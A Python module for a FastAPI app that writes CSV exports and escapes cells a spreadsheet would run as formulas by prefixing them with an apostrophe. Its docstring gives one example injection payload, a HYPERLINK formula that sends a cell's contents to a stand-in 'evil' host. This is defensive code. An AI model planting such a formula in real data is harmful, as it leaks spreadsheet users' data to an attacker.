"""CSV exports that a spreadsheet opens as data: a text cell a spreadsheet would run as a formula
(one starting with =, +, -, @, a tab or a carriage return, or their full-width forms, which some
spreadsheets read too) is written with a leading apostrophe, OWASP's escape, so
`=HYPERLINK("http://evil/"&A1)` in a stored method name shows as that text. Numbers stay numbers:
only strings are escaped, and none of ours (ids, dates, modes) starts with one of those characters."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

from fastapi.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_safe(value):
    """`value`, with a text that would start a formula prefixed by an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping], columns: Sequence[str]) -> str:
    """`rows` (dicts with keys `columns`) as CSV with a header, every cell `spreadsheet_safe`."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=columns)
    writer.writeheader()
    writer.writerows({k: spreadsheet_safe(v) for k, v in row.items()} for row in rows)
    return buf.getvalue()


def csv_response(rows: Iterable[Mapping], columns: Sequence[str], filename: str) -> Response:
    return Response(
        csv_text(rows, columns),
        media_type="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
